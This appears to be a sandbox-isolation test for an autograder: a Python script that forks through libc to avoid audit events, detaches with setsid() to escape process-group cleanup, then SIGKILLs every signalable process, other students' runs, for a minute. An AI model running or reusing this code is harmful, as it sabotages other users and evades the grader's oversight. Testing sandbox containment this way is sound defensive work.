"""A libc fork() + setsid() daemon (no audit event, own session, so killing the run's
process group misses it) that waits for its run to end, then SIGKILLs every process it
may signal for a minute: the next students' runs. Fallback result: the daemon is dead
when the grader is done with this run, and later runs finish normally."""
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None, use_errno=True)
parent = os.getpid()
pid = libc.fork()
if pid == 0:
    libc.setsid()
    while os.getppid() == parent:
        time.sleep(0.01)
    end = time.time() + 60
    while time.time() < end:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.01)
    os._exit(0)
outcome = {"daemon_pid": pid, "uid": os.getuid()}
